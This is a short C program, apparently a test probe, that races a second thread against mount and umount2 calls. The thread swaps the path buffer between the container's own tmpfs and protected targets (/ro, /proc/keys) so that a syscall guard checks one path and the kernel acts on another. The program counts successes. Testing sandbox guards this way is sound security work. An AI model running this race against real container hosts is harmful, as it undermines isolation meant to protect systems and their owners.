/* The TOCTOU attack on a vetted mount call: a second thread rewrites the path
 * the trapped thread passed, hoping the guard checks one path and the kernel
 * acts on another. Mode "remount": flip between the container's own tmpfs and
 * the read-only volume while remounting read-write. Mode "umount": flip
 * between the own tmpfs and the masked /proc/keys while unmounting.
 * Prints "ok=N" (calls that succeeded). */
#define _GNU_SOURCE
#include <errno.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <unistd.h>

static char path[64] = "/tmp/own";
static const char *a = "/tmp/own", *b;
static volatile int stop;

static void *flipper(void *x) {
    (void)x;
    /* Equal time on each path, so both the check and the use see both. */
    while (!stop) {
        strcpy(path, b);
        for (volatile int i = 0; i < 2000; i++) {}
        strcpy(path, a);
        for (volatile int i = 0; i < 2000; i++) {}
    }
    return NULL;
}

int main(int argc, char **argv) {
    int umount_mode = argc > 1 && strcmp(argv[1], "umount") == 0;
    int n = argc > 2 ? atoi(argv[2]) : 2000;
    b = umount_mode ? "/proc/keys" : "/ro";
    pthread_t t;
    pthread_create(&t, NULL, flipper, NULL);
    int ok = 0, i;
    for (i = 0; i < n; i++) {
        if (umount_mode) {
            mount("none", "/tmp/own", "tmpfs", 0, NULL);
            if (umount2(path, 0) == 0) ok++;
        } else {
            if (mount(NULL, path, NULL, MS_REMOUNT | MS_BIND, NULL) == 0) ok++;
        }
    }
    stop = 1;
    pthread_join(t, NULL);
    printf("ok=%d\n", ok);
    return 0;
}
